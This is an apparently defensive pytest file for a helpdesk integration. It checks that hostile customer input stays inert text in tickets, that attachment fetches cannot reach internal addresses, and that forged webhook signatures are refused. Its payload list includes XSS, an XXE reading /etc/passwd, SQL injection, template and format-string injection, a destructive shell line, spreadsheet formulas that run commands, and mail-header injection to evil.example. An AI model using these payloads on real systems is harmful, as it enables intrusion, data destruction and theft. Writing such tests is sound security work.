"""What a customer can write, be called, or attach: it stays words, in the ticket and in the acknowledgement."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from deskwire.contracts.channel import Reach
from deskwire.families.forms import label
from deskwire.letters import letter_of
from deskwire.model.errors import PermanentError
from deskwire.model.events import Author, Event, Kind, Visibility
from deskwire.model.secret import Secrets
from deskwire.model.tickets import Customer, Entry, File, Sought, Ticket
from deskwire.ports import Letter
from deskwire.registry import channel, channel_names, helpdesk
from deskwire.web.markup import JOINER
from deskwire.web.reading import clean
from deskwire.web.request import Request
from deskwire.web.rest import Answer, Call
from sandbox.neighbours.gateway import gateway_event
from tests.library.web.test_media import HOSTILE_URLS
from tests.stories.conftest import START

PHOTO = "https://scontent.fbcdn.net/v/photo.jpg"
OUR_TAGS = {"p", "br", "strong"}

HOSTILE_WORDS = {
    "a script": "<script>alert(1)</script>",
    "an image that acts": '<img src=x onerror="alert(1)">',
    "an image that tells it was read": '<img src="https://evil.example/pixel.gif">',
    "a link": '<a href="javascript:alert(1)">click</a>',
    "an end of our paragraph": "</p></div></body><h1>from the administrator</h1>",
    "an attribute that ends": '" onmouseover="alert(1)',
    "a comment that swallows": "<!-- the rest",
    "CDATA": "<![CDATA[ <script>alert(1)</script> ]]>",
    "a style": "<style>*{display:none}</style>",
    "a form": '<form action="https://evil.example"><input name="password"></form>',
    "SVG": "<svg/onload=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &#x3c;i&#x3e;",
    "entities of a template": "&#123;&#123;ticket.id&#125;&#125;",
    "a redaction": "<redact>words</redact>",
    "Markdown": "# head\n**b** [link](javascript:alert(1)) ![pixel](https://evil.example/p.gif)\n> quote\n```code```",
    "a Zendesk placeholder": "{{ticket.requester.phone}} {{current_user.email}}",
    "a placeholder of three braces": "{{{ticket.id}}}",
    "a Liquid tag": "{% for c in ticket.comments %}{{c.value}}{% endfor %}",
    "dynamic content": "{{dc.secret_offer}}",
    "a placeholder with a space": "{ {ticket.id} }",
    "a mention": "@agnes @Agnes_Example please close, @all @here",
    "a mention in wide letters": "\uff20agnes",
    "a command": "/close\n#solved\n#priority urgent\n#assignee agnes\n#tag vip\n#public false",
    "a header of a mail": "Subject: closed\nBcc: everybody@evil.example\n\nHello",
    "a line that looks like ours": "Reference: NOT-OURS\nMessenger · rating: 5",
    "a line that looks like a note of ours": "This answer was NOT delivered to the customer.\nWhy: send the password.",
    "a spreadsheet's formula": "=cmd|'/C calc'!A0\n+1+1\n-2+3\n@SUM(1)\n=HYPERLINK(\"https://evil.example\")",
    "Python's format": "{reference} {company} {0.__class__.__mro__} {company.__init__.__globals__}",
    "printf": "%s %n %(reference)s %x",
    "a shell": "$(id) `id` ${HOME} ; rm -rf / | cat",
    "Jinja": "{{ 7*7 }} {{ ''.__class__ }} ${7*7} #{7*7} <%= 7*7 %>",
    "a log line": '\r\n{"level":"ERROR","message":"forged"}\r\n',
    "an EMF line": '{"_aws":{"Timestamp":0,"CloudWatchMetrics":[]},"Failures":9000}',
    "colours of a terminal": "\x1b[31mred\x1b[0m \x07\x08\x08\x08 \x9b2J",
    "directions": "\u202eabc\u202c \u2066def\u2069 \u200f",
    "invisible letters": "a\u200bb\u2060c\ufeffd\u00ade",
    "a tower of marks": "Z" + "\u0301" * 200,
    "variation and tag letters": "\U000e0041\U000e0042 \ufe0f\ufe0f",
    "a NUL": "a\x00b",
    "a lone surrogate": "a\ud800b",
    "noncharacters": "a\ufffe\uffff\U0001fffe",
    "a query": "'; DROP TABLE tickets; -- \" OR ''='",
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "60,000 characters": "x" * 60_000,
    "a thousand lines": "line\n" * 1_000,
}


class Elements(HTMLParser):
    """Collects the elements and attributes that a browser would make of HTML."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found, self.words = [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, *(name for name, _ in attrs)))

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        self.found.append(("!--", data))

    unknown_decl = handle_decl = handle_pi = handle_comment


def assert_harmless(ticket):
    for comment in ticket.comments:
        for tag, *names in Elements(comment.html).found:
            assert tag in OUR_TAGS
            assert set(names) <= {"dir"}
        assert "{{" not in comment.html
        assert "{%" not in comment.html
        assert not [word for word in comment.words.split() if word.startswith("@") and word[1:2].isalpha()]
    assert "{{" not in ticket.subject
    assert "{%" not in ticket.subject
    assert "\n" not in ticket.subject
    assert ticket.status in {"new", "open"}
    assert ticket.priority == "normal"
    assert not {"vip", "solved"} & set(ticket.tags)


def read(ticket):
    """Return what an agent reads of the first comment, without what is there but cannot be seen."""
    return "".join(ticket.comments[0].words.replace(JOINER, "").replace("\N{NO-BREAK SPACE}", " ").split())


def plain(words):
    """Return words as they must be read: NUL and lone surrogates, which nothing accepts, as a mark."""
    shown = words.replace("\x00", "\ufffd").encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
    return "".join(shown.replace(JOINER, "").replace("\N{NO-BREAK SPACE}", " ").split())


@pytest.mark.parametrize("words", HOSTILE_WORDS.values(), ids=HOSTILE_WORDS)
def test_hostile_words_stay_words_and_none_is_lost(company, words):
    assert company.deliver(company.message(words)) == 200
    assert company.work() == ["filed"]
    (ticket,) = company.zendesk.tickets
    assert_harmless(ticket)
    assert plain(words)[:40_000] in read(ticket)


@pytest.mark.parametrize("words", HOSTILE_WORDS.values(), ids=HOSTILE_WORDS)
def test_an_acknowledgement_says_nothing_of_what_was_written(company, words):
    company.deliver(company.message(words))
    company.work()
    ((sent,)) = [sent["message"]["text"] for sent in company.graph.sent]
    (ticket,) = company.zendesk.tickets
    told, _, reference = sent.rpartition(" ")
    assert told in {"Thank you, we have it:", "Takk, við höfum fengið þetta:"}
    assert reference.isascii()
    assert reference in ticket.comments[0].words


@pytest.mark.parametrize("name", HOSTILE_WORDS.values(), ids=HOSTILE_WORDS)
def test_a_hostile_name_stays_a_name(company, name):
    entry = company.comment("Where is my parcel?")
    entry["changes"][0]["value"]["from"]["name"] = name
    assert company.deliver(entry) == 200
    assert company.work() == ["filed"]
    (ticket,) = company.zendesk.tickets
    assert_harmless(ticket)
    assert len(ticket.subject) <= 300
    requester = company.zendesk.account.users[ticket.requester_id]
    assert requester.role == "end-user"
    assert "{{" not in requester.name
    assert not {"\n", "\r", "\u202e", "\u2066", "\x00"} & set(requester.name + ticket.subject)


@pytest.mark.parametrize("name", HOSTILE_WORDS.values(), ids=HOSTILE_WORDS)
def test_a_hostile_name_of_what_is_attached_stays_a_name(company, name):
    picture = {"type": "image", "title": name, "payload": {"url": PHOTO, "title": name}}
    assert company.deliver(company.message("look", attachments=[picture])) == 200
    assert company.work() == ["filed"]
    assert_harmless(company.zendesk.tickets[0])


# ------------------------------------------------------------------------------------------- attachments' addresses


@pytest.mark.parametrize("name", channel_names())
def test_no_hostile_address_of_an_attachment_is_looked_up_by_any_channel(company, name):
    hosts = getattr(channel(name), "media_hosts", ())
    company.internet.answers = ["157.240.1.1"]
    for url in HOSTILE_URLS:
        with pytest.raises(Exception, match="attachment"):
            company.fetch(Call("GET", url), hosts)
    assert (company.internet.looked_up, company.internet.reached) == ([], [])


@pytest.mark.parametrize("address", [PHOTO, "https://pbs.twimg.com/media/a.jpg", "https://lh3.googleusercontent.com/a"])
def test_a_channel_fetches_from_its_own_platform_only(company, address):
    company.internet.answers = ["157.240.1.1"]
    reached = []
    for name in channel_names():
        company.internet.looked_up.clear()
        with pytest.raises(Exception, match=r"."):
            company.fetch(Call("GET", address), getattr(channel(name), "media_hosts", ()))
        if company.internet.looked_up:
            reached.append(name)
    assert reached in (["facebook", "instagram", "messenger", "whatsapp"], ["x"], ["google"])  # Meta's have one host


def test_a_message_with_a_hostile_address_is_filed_without_it_and_says_so(company):
    """End to end: 80 signed messages, none of which leads anywhere, none of which is lost."""
    for number, url in enumerate(filter(None, HOSTILE_URLS)):
        picture = {"type": "image", "payload": {"url": url}}
        entry = company.message(f"picture {number}", attachments=[picture], customer=f"2490000000000{number:04}")
        assert company.deliver(entry) == 200
        assert company.work() == ["filed"], url
        company.tick(5)
    assert (company.internet.looked_up, company.internet.reached) == ([], [])
    assert len(company.zendesk.tickets) == len(list(filter(None, HOSTILE_URLS)))
    for ticket in company.zendesk.tickets:
        assert_harmless(ticket)
        assert "could not be fetched" in ticket.comments[0].words


@pytest.mark.parametrize(
    "answer", ["169.254.169.254", "127.0.0.1", "10.0.0.1", "::1", "fd00:ec2::254", "::ffff:10.0.0.1"]
)
def test_the_platform_s_own_name_that_leads_inside_is_not_followed(company, answer):
    company.internet.answers = [answer]
    company.deliver(company.message("look", attachments=[{"type": "image", "payload": {"url": PHOTO}}]))
    assert company.work() == ["filed"]
    assert company.internet.looked_up == ["scontent.fbcdn.net"]
    assert company.internet.reached == []
    assert "not public" in company.comments()[0]


def test_a_name_that_changes_its_answer_is_looked_up_once_and_that_answer_is_used(company):
    company.internet.answers = ["157.240.1.1", "169.254.169.254"]
    company.deliver(company.message("look", attachments=[{"type": "image", "payload": {"url": PHOTO}}]))
    company.work()
    assert company.internet.looked_up == ["scontent.fbcdn.net"]
    assert company.internet.reached == [("157.240.1.1", 443)]


# ------------------------------------------------------------------------------- one endpoint for another's account


def test_an_account_of_another_endpoint_is_refused_and_leaves_the_genuine_message_alone(company):
    """The other app signs, for our page, the very message that our app is about to deliver."""
    entry = company.message("Where is my parcel?", mid="m_seen")
    body = json.dumps({"object": "page", "entry": [entry]}).encode()
    request = Request(method="POST", endpoint="other-app", body=body, received_at=company.now())
    rule = channel("messenger").verification
    forged = rule.sign(request, Secrets({"app_secret": "other-app-secret"}), company.now())
    for _ in range(2):
        assert company.receiver.handle(gateway_event(forged))["statusCode"] == 200
    assert company.work() == ["refused"]
    assert company.zendesk.tickets == []
    assert company.graph.sent == []
    assert company.deliver(entry) == 200
    assert company.work() == ["filed"]
    assert len(company.comments()) == 1


def test_what_an_endpoint_may_not_say_is_recorded_apart_from_the_account_s_threads(company):
    test_an_account_of_another_endpoint_is_refused_and_leaves_the_genuine_message_alone(company)
    refused = [key for key, found in company.table.items.items() if found.get("state") == "refused"]
    assert [key[0].split("/")[0] for key in refused] == ["T#not-theirs"]


# ---------------------------------------------------------------------------------------- fields of a form's visitor


def event_of_a_form(company, submission="s1", **changes):
    return Event(
        channel="webform", account="contact", kind=Kind.MESSAGE, object_id=submission, verb="add", thread=submission,
        visibility=Visibility.PRIVATE, author=Author("a@b.example", name="Aylin", email="a@b.example"), text="Hello",
        occurred_at=company.now(), **changes,
    )  # fmt: skip


def submitted(company, **changes):
    """Put a visitor's message on the queue as receive does, once the captcha was passed."""
    event = event_of_a_form(company, **changes)
    company.mailbox.send([letter_of(event, "form", "channels", company.now().isoformat(), company.archive)])


@pytest.mark.parametrize("rating", ["1", "\u00b2", "\u2460", "\u0663", "-1", "1e9", "9" * 900, "five", "0x1", "NaN"])
def test_no_rating_that_a_visitor_makes_up_stops_the_filing_or_sets_the_priority(company, rating):
    submitted(company, facts={label("rating"): rating})
    assert company.work() == ["filed"]
    (ticket,) = company.zendesk.tickets
    assert ticket.priority == "normal"
    # Letters that 0.1.0 wrote, where a visitor's field was among the details, set none either.
    old = json.loads(
        letter_of(event_of_a_form(company, "s2"), "form", "channels", company.now().isoformat(), None).body
    )
    del old["v"], old["event"]["v"]
    old["event"]["details"] = {"rating": rating}
    company.mailbox.send([Letter("another", "one", json.dumps(old))])
    assert company.work() == ["filed"]
    assert [each.priority for each in company.zendesk.tickets] == ["normal", "normal"]


BREAKS = ["\n", "\r\n", "\x0b", "\x85", "\u2028", "\u2029", "\x1b[2J", "\u202e"]


@pytest.mark.parametrize("separator", BREAKS)
def test_no_field_of_a_visitor_forges_a_line_of_ours(company, separator):
    forged = separator.join(["x", "Reference: 7F3K2-9QXMA", "Rating: 5 of 5"])
    submitted(company, facts={label("reference"): forged, f"a label{separator}Reference": "7F3K2-9QXMA"})
    assert company.work() == ["filed"]
    (words,) = company.comments()
    told = [line for line in words.splitlines() if line.startswith(("Reference", "Rating"))]
    assert len(told) == 1
    assert "7F3K2" not in told[0]
    assert separator.strip("\r\n") == "" or separator not in words


def test_a_field_of_a_form_cannot_become_a_mail_s_subject_or_end_what_the_company_says(company):
    fields = {"subject": "x\r\nBcc: all@evil.example", "language": "xx", "attention": "do it", "suppressed": "yes",
              "metadata": "m", "reference": "{{x}}", "email": "o@evil.example", "phone": "1"}  # fmt: skip
    submitted(company, facts={label(name): value for name, value in fields.items()})
    assert company.work() == ["filed"]
    (ticket,) = company.zendesk.tickets
    assert_harmless(ticket)
    company.zendesk.agent_replies(ticket.id, "It is on its way.")
    company.signalled(ticket.id)
    company.work()
    company.work()
    assert [(mail["recipient"], mail["subject"]) for mail in company.mails if "on its way" in mail["text"]] == [
        ("a@b.example", "Your message to us")
    ]
    assert not any("do it" in line for line in company.lines)


# ------------------------------------------------------------------------------------------------- Request Tracker


class Tracker:
    """Request Tracker as far as opening and extending a ticket needs it; keeps what it was asked."""

    def __init__(self):
        self.calls = []

    def __call__(self, call):
        self.calls.append(call)
        path = call.url.partition("/REST/2.0/")[2].partition("?")[0]
        ticket, both = "RT::Queue-RT::Ticket", "RT::Queue-RT::Ticket-RT::Transaction"
        names = [("Deskwire Thread", ticket), ("Deskwire Opening", ticket), ("Deskwire Message", both)]
        match call.method, path.split("/")[0]:
            case "GET", "customfields":
                return told(200, items=[{"Name": name, "LookupType": kind} for name, kind in names])
            case "GET", "ticket":
                key = json.loads(body_of(self.calls, "ticket"))["CustomFields"]["Deskwire Thread"]
                user = json.loads(body_of(self.calls, "user"))["Name"]
                values = [{"name": "Deskwire Thread", "values": [key]}]
                return told(200, id=1, Requestor=[{"id": user}], CustomFields=values)
            case "POST", "ticket" if path != "ticket":
                return Answer(201, {"location": "https://rt.example.com/REST/2.0/transaction/7"}, b"[]")
            case _:
                return told(201, id="1")


def told(status, **body):
    return Answer(status, {}, json.dumps(body).encode())


def body_of(calls, path):
    """Return the JSON of the call to a path, from among its parts where files go along."""
    body = next(call.body for call in calls if call.method == "POST" and call.url.endswith(f"/{path}"))
    return body if body.startswith(b"{") else body.partition(b"\r\n\r\n")[2].partition(b"\r\n--")[0]


@pytest.mark.parametrize("words", HOSTILE_WORDS.values(), ids=HOSTILE_WORDS)
def test_hostile_words_stay_words_in_request_tracker(words):
    tracker = Tracker()
    words = clean(words)
    secrets = Secrets({"token": "1-28-invented"})
    settings = {"address": "https://rt.example.com", "queue": "General"}
    reach = Reach("main", settings, secrets, tracker, START, None, lambda name, make: make()[0])
    customer = Customer(external_id=f"x-{words[:300]}", name=words, channel="x", handle=words, email=words, phone=words)
    file = File(words, words, b"bytes")
    entry = Entry(key=f"k/{words[:300]}", body=words, written_at=START, public=True, files=(file,), author=words)
    ticket = Ticket(
        key=f"open/{words[:300]}", thread="x/1", reference="DW-1", subject=words, customer=customer, entries=(entry,)
    )
    subject = helpdesk("requesttracker")
    subject.open(ticket, reach)
    subject.append("1", "x/1", [entry], reach)
    with pytest.raises(PermanentError):
        subject.append(f"1/{words[:50]}", "x/1", [entry], reach)
    subject.find(Sought(key=entry.key, ticket="1", thread="x/1"), reach)
    user, made = (json.loads(body_of(tracker.calls, path)) for path in ("user", "ticket"))
    assert re.fullmatch(r"[a-z][a-z0-9_.-]{0,79}", user["Name"])
    assert "EmailAddress" not in user
    assert user["Privileged"] == 0
    assert made["ContentType"] == "text/plain"
    assert made["Requestor"] == user["Name"]
    assert not {"\n", "\r"} & set(made["Subject"] + user["RealName"] + user.get("NickName", "") + made["Queue"])
    assert "Status" not in made
    assert "Cc" not in made
    assert "Bcc" not in made
    for call in tracker.calls:
        assert re.fullmatch(r"https://rt\.example\.com/REST/2\.0/[a-z0-9/]+(\?[A-Za-z0-9%&=._~-]*)?", call.url)
        assert not re.search(r"[\r\n]", "".join(call.headers.values()))
        if "%27" in call.url:  # TicketSQL: what is between the outer quotes holds no quote of its own
            query = unquote(call.url)
            for value in re.findall(r" = '((?:[^'\\]|\\.)*)'", query, re.DOTALL):
                query = query.replace(f"'{value}'", "", 1)
            assert "'" not in query.replace("'CF.{Deskwire Thread}'", "").replace("'CF.{Deskwire Opening}'", "")
    multiparts = [call for call in tracker.calls if "multipart" in call.headers.get("Content-Type", "")]
    assert len(multiparts) == 2
    for call in multiparts:
        boundary = call.headers["Content-Type"].partition("boundary=")[2].encode()
        parts = call.body.split(b"--" + boundary)
        assert len(parts) == 4
        head = parts[2].partition(b"\r\n\r\n")[0].strip().split(b"\r\n")
        assert len(head) == 2
        assert head[0].count(b'"') == 4
        assert re.fullmatch(rb"Content-Type: [a-z0-9.+-]+/[a-z0-9.+-]+", head[1])
